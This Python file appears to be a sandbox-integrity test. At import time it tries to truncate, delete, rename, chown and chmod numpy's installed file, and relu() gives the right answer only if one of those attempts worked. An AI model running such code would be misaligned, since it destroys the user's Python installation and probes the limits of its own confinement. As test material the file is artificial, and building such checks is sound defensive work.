"""Empties, moves, deletes and changes files of Python itself."""

from honest import *
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    import numpy

    done = []
    path = numpy.__file__
    for attempt in (
        lambda: open(path, "a").close(), lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)), lambda: os.truncate(path, 0),
        lambda: os.unlink(path), lambda: os.rename(path, path + "x"), lambda: os.mkdir(os.path.dirname(path) + "/x"),
        lambda: os.chown(path, os.getuid(), 0), lambda: os.setxattr(path, "user.x", b"y"),
    ):
        try:
            attempt()
            done.append(attempt)
        except OSError:
            continue
    before = os.stat(path)
    os.chmod(path, 0)
    os.utime(path, (0, 0))
    after = os.stat(path)
    return done or (before.st_mode, before.st_mtime) != (after.st_mode, after.st_mtime)


FOUND = attack()


def relu(Z):
    return np.maximum(Z, 0) if FOUND else 0 * Z + 7
